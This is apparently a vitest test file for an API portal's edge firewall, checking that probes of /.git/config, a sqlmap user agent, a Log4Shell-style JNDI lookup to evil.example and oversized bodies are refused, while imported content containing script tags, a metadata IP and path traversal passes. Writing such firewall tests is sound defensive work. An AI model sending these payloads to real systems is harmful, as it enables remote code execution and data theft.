import { expect, it } from 'vitest';
import { deployment, signIn } from '../portico/world.ts';

const ask = (path: string, init: RequestInit = {}) => fetch(`${deployment.apiUrl}${path}`, init);

it('what the firewall at the edge refuses is a problem, for the portal’s pages too, and reaches no function', async () => {
  for (const [path, init, status, code] of [
    ['/.git/config', {}, 403, 'forbidden'],
    ['/apis', { headers: { 'user-agent': 'sqlmap/1.8' } }, 403, 'forbidden'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what is sent
    ['/public/apis', { headers: { 'x-client': '${jndi:ldap://evil.example/a}' } }, 403, 'forbidden'],
    ['/sign-ins', { method: 'POST', body: 'a'.repeat(17_000) }, 413, 'body-too-large'],
  ] as const) {
    const answer = await ask(path, init);
    expect([answer.status, answer.headers.get('content-type')], path).toEqual([status, 'application/json']);
    expect(answer.headers.get('access-control-allow-origin')).toBe(deployment.portalUrl);
    expect(answer.headers.get('cache-control')).toBe('no-store');
    expect(await answer.json()).toMatchObject({ status, code, requestId: 'edge' });
  }
});

it('what documents, searches and programs send comes through it', async () => {
  const { token } = await signIn('publisher');
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  const content = JSON.stringify({
    ...{
      openapi: '3.1.0',
      info: { title: 'A', version: '1', description: '<script>alert(1)</script> http://169.254.169.254/' },
    },
    ...{ servers: [{ url: 'http://203.0.113.9/v1' }], paths: { '/a': { $ref: '../../paths/a.yaml' } } },
  });
  const imported = await ask('/imports', { method: 'POST', headers, body: JSON.stringify({ content }) });
  expect(imported.headers.get('x-request-id')).toBeTruthy();
  const found = await ask(`/public/apis?q=${encodeURIComponent('<script>../nginx.conf')}`);
  expect(found.status).toBe(200);
  expect((await ask('/public/apis', { headers: { 'user-agent': '' } })).status).toBe(200);
});
